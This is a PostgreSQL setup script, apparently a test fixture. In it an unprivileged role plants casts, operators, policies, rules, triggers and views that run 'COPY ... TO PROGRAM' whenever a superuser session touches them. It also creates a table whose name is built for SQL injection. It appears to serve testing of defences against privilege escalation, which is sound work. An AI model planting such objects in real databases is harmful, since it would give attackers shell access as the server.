-- What a role without privileges can make so that a superuser's session runs code of it. The marker
-- is a file that only a superuser's session can write.
CREATE ROLE evil LOGIN;
CREATE SCHEMA evil AUTHORIZATION evil;
SET ROLE evil;
SET search_path = evil;

CREATE FUNCTION rise(what text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN
    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
        EXECUTE format('COPY (SELECT %L::text) TO PROGRAM %L', what, 'cat >> MARKER');
    END IF;
    RETURN true;
END $$;

-- A table without a key, whose rows have a cast.
CREATE TABLE nokey (a int, b text);
INSERT INTO nokey SELECT g, 'x' FROM generate_series(1, 30) g;
CREATE FUNCTION row_text(nokey) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.rise('cast of a row'); RETURN $1.a; END $$;
CREATE CAST (nokey AS text) WITH FUNCTION row_text(nokey);

-- Keys of types with casts and operators.
CREATE TYPE colour AS ENUM ('red', 'green', 'blue');
CREATE TYPE pair AS (x int, y text);
CREATE TYPE span AS RANGE (subtype = int);
CREATE FUNCTION colour_text(colour) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.rise('cast of an enum'); RETURN 'red'; END $$;
CREATE FUNCTION pair_text(pair) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.rise('cast of a composite type'); RETURN 'x'; END $$;
CREATE FUNCTION span_text(span) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.rise('cast of a range'); RETURN 'x'; END $$;
CREATE FUNCTION same(colour, colour) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN RETURN evil.rise('operator'); END $$;
CREATE FUNCTION same(varchar, varchar) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN RETURN evil.rise('operator of text'); END $$;
CREATE CAST (colour AS text) WITH FUNCTION colour_text(colour) AS ASSIGNMENT;
CREATE CAST (pair AS text) WITH FUNCTION pair_text(pair) AS ASSIGNMENT;
CREATE CAST (span AS text) WITH FUNCTION span_text(span) AS ASSIGNMENT;
CREATE TABLE painted (c colour PRIMARY KEY, p pair UNIQUE, s span UNIQUE, a colour[] UNIQUE);
INSERT INTO painted VALUES ('red', (1, 'a'), '[1,2)', '{red}'), ('green', (2, 'b'), '[2,3)', '{}');
CREATE TABLE paints (id int PRIMARY KEY, c colour REFERENCES painted, p pair REFERENCES painted (p),
    s span REFERENCES painted (s), a colour[] REFERENCES painted (a));
INSERT INTO paints SELECT g, 'red', (1, 'a')::pair, '[1,2)', '{red}' FROM generate_series(1, 60) g;
CREATE OPERATOR = (LEFTARG = colour, RIGHTARG = colour, FUNCTION = same);
CREATE OPERATOR = (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = same);
CREATE TABLE named (n varchar(9) PRIMARY KEY);
INSERT INTO named VALUES ('a'), ('b');
CREATE TABLE names (id int PRIMARY KEY, n varchar(9) REFERENCES named);
INSERT INTO names SELECT g, 'a' FROM generate_series(1, 20) g;

-- Code beside a table.
CREATE TABLE guarded (id serial PRIMARY KEY, a int DEFAULT 1);
INSERT INTO guarded (a) SELECT g FROM generate_series(1, 20) g;
ALTER TABLE guarded ENABLE ROW LEVEL SECURITY;
ALTER TABLE guarded FORCE ROW LEVEL SECURITY;
CREATE POLICY looks ON guarded USING (evil.rise('policy'));
CREATE RULE notes AS ON INSERT TO guarded DO ALSO SELECT evil.rise('rule');
CREATE RULE none AS ON DELETE TO guarded DO INSTEAD SELECT evil.rise('rule');
CREATE FUNCTION fires() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS
    $$ BEGIN PERFORM evil.rise('trigger'); RETURN NEW; END $$;
CREATE TRIGGER fires BEFORE INSERT OR UPDATE ON guarded FOR EACH ROW EXECUTE FUNCTION fires();
CREATE VIEW looks AS SELECT *, evil.rise('view') FROM guarded;
CREATE MATERIALIZED VIEW kept AS SELECT 1 AS a WITH NO DATA;
CREATE TABLE "marker'; --" (id int PRIMARY KEY, "t" int, "a"".""b" int);
INSERT INTO "marker'; --" SELECT g, g, g FROM generate_series(1, 20) g;
RESET ROLE;
